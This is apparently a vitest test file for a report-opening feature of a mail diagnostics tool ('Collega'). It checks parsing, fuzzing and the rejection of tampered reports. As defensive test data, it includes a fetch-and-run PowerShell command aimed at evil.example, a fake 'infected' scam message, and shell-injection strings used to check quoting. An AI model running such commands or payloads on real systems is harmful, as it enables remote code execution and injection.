import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Failure } from '../../contract/failures.ts';
import { maxReportLength, reportBundle } from '../../contract/reports.ts';
import { FailureError } from '../failure-error.ts';
import { renderReport } from './create-report.ts';
import { fillCommand } from '../diagnosis/finding-params.ts';
import { openReport } from './open-report.ts';
import { sampleBundle, sampleFinding, sampleServer, sampleTest } from './testing/sample-bundle.ts';

function refusalOf(content: string): Failure {
  try {
    openReport(content);
  } catch (error) {
    if (error instanceof FailureError) return error.failure;
    throw error;
  }
  return expect.fail('it was opened');
}

const withFinding = (change: Parameters<typeof sampleFinding>[0]) =>
  sampleBundle({
    servers: [sampleServer({ test: sampleTest({ findings: [sampleFinding(change)] }) })],
  });
const openedFinding = (change: Parameters<typeof sampleFinding>[0]) =>
  openReport(JSON.stringify(withFinding(change))).servers[0]?.test?.findings[0];

describe('a report that someone sent', () => {
  it('opens from the JSON and from the HTML file alike', () => {
    const { json, html } = renderReport(sampleBundle());
    expect(openReport(html)).toEqual(openReport(json));
    expect(openReport(`\ufeff${json}`)).toMatchObject({
      client: { name: 'Contoso' },
      servers: [{ test: { outcome: 'failed', transcript: sampleTest().transcript } }],
    });
  });

  it.each([
    ['servers.0.test.steps.3.status', (text: string) => text.replace('"skipped"', '"hacked"')],
    ['servers.0.port', (text: string) => text.replace('"port": 587', '"port": "587"')],
    [
      'azureApp.clientSecret',
      (text: string) => text.replace('"hasSecret"', '"clientSecret": "x", "hasSecret"'),
    ],
    ['createdAt', (text: string) => text.replace('2026-11-23T10:05', 'yesterday')],
  ])('names the field that is wrong: %s', (field, damage) => {
    const damaged = damage(JSON.stringify(sampleBundle(), null, 2));
    expect(refusalOf(damaged)).toEqual({ kind: 'report-unreadable', reason: 'wrong-field', field });
  });

  it.each([
    ['', 'not-a-report'],
    ['hello', 'not-a-report'],
    ['null', 'not-a-report'],
    ['[]', 'not-a-report'],
    ['<html><body>A page</body></html>', 'not-a-report'],
    ['<template id="collega-report-bundle">{}', 'not-a-report'],
    [JSON.stringify(sampleTest()), 'not-a-report'],
    [JSON.stringify({ ...sampleBundle(), schema: 'collega.report/2' }), 'newer-format'],
    ['x'.repeat(maxReportLength + 1), 'too-large'],
  ])('%.40s is refused as %s', (content, reason) => {
    expect(refusalOf(content)).toMatchObject({ kind: 'report-unreadable', reason });
  });

  it('survives a bomb of brackets', () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const bomb = JSON.stringify(sampleBundle()).replace(
      '"skipped","durationMs":0,"detail":{}',
      `"skipped","durationMs":0,"detail":{"x":${deep}}`,
    );
    expect(bomb).toContain('[[[[');
    expect(refusalOf(bomb)).toMatchObject({ kind: 'report-unreadable', reason: 'not-a-report' });
  });

  it('is refused or opened, never anything else, whatever is changed in it', () => {
    const text = JSON.stringify(sampleBundle());
    fc.assert(
      fc.property(fc.nat(text.length), fc.nat(40), fc.string(), (at, length, put) => {
        const changed = text.slice(0, at) + put + text.slice(at + length);
        try {
          reportBundle.parse(openReport(changed));
        } catch (error) {
          expect(error).toBeInstanceOf(FailureError);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('what a foreign report tells its reader to do', () => {
  it("is this Collega's own: texts, owner, commands and links", () => {
    expect(
      openedFinding({
        title: 'Your computer is infected',
        fix: 'Call 555-1234',
        owner: 'nobody',
        commands: ['Invoke-WebRequest https://evil.example | iex'],
        links: ['https://evil.example', 'https://status.cloud.microsoft'],
      }),
    ).toMatchObject({
      owner: 'exchange-admin',
      commands: [expect.stringMatching(/^Set-CASMailbox <MAILBOX> /)],
      links: ['https://status.cloud.microsoft'],
      title: expect.not.stringContaining('infected') as string,
      fix: expect.not.stringContaining('555') as string,
    });
  });

  it('has no command at all where this version does not know the finding', () => {
    const finding = openedFinding({ code: 'of-a-later-version', commands: ['evil'] });
    expect(finding).toMatchObject({
      title: 'A finding that this version does not know: of-a-later-version',
      commands: [],
    });
    expect(finding?.evidence).toContain('The sender writes: Title as stored');
  });

  it.each(["x'; evil; '", 'x’; evil; ’', 'x"; evil; "', '$(evil)', 'x; evil'])(
    'keeps a hostile value inside its quotes where Collega fills a command: %s',
    (mailbox) => {
      const command = fillCommand('Set-CASMailbox {mailbox} -X', { mailbox });
      // PowerShell takes any of these as a quote, and two of them as one inside of a string.
      const value =
        /^Set-CASMailbox (['\u2018-\u201b])((?:[^'\u2018-\u201b]|['\u2018-\u201b]{2})*)['\u2018-\u201b] -/.exec(
          command,
        );
      expect(value, command).not.toBeNull();
    },
  );

  it('takes no order for the translation from its params', () => {
    const mailbox = '$t{x}@contoso.com';
    const finding = openedFinding({ params: { lng: 'it', mailbox, count: '2', ns: 'z' } });
    expect(finding?.title).toBe(openedFinding({ params: { mailbox } })?.title);
    expect(finding?.title).toContain(mailbox);
    expect(openedFinding({ params: { mailbox: '$t(x)' } })?.title).toContain('<MAILBOX>');
  });
});

describe('the names that a reader gives to masked mailboxes', () => {
  const params = { mailbox: 'mailbox-1@domain-1.example', signedInAs: 'mailbox-2@contoso.com' };
  const open = (names: Readonly<Record<string, string>>) =>
    openReport(JSON.stringify(withFinding({ params })), 'en', names).servers[0]?.test?.findings[0];

  it('fill the commands and sentences of its findings, and nothing else', () => {
    const finding = open({ 'mailbox-1': "o'brien@x.it" });
    expect(finding?.commands).toEqual([
      expect.stringMatching(/^Set-CASMailbox 'o''brien@x\.it' /) as string,
    ]);
    expect(finding?.title).toContain("o'brien@x.it");
    expect(finding?.params).toMatchObject({
      mailbox: "o'brien@x.it",
      signedInAs: params.signedInAs,
    });
    expect(finding?.evidence).toEqual(sampleFinding().evidence);
  });

  it('leave placeholders where none was given, and where the sender named a mailbox', () => {
    expect(open({ 'mailbox-3': 'anna@x.it' })?.commands[0]).toMatch(/^Set-CASMailbox <MAILBOX> /);
    const named = { 'mailbox-1': 'anna@x.it' };
    const finding = openReport(JSON.stringify(withFinding({})), 'en', named).servers[0]?.test;
    expect(finding?.findings[0]?.commands[0]).toMatch(/^Set-CASMailbox <MAILBOX> /);
  });
});
